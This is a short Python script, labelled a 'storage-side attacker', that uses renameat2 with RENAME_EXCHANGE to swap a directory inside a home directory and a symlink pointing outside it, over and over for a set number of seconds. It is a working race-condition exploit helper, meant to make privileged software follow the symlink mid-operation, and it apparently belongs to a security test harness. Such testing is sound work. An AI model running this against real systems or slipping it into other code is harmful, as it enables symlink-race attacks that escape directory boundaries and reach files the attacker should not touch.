# Storage-side attacker: exchanges two names atomically (renameat2 RENAME_EXCHANGE) in a loop for N seconds,
# so a directory inside a home and a symlink to outside keep trading places. Prints the swap count.
import ctypes, sys, time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
a, b, seconds = sys.argv[1].encode(), sys.argv[2].encode(), float(sys.argv[3])
end, n = time.time() + seconds, 0
while time.time() < end:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        sys.exit('renameat2 failed: errno %d' % ctypes.get_errno())
    n += 1
print(n)
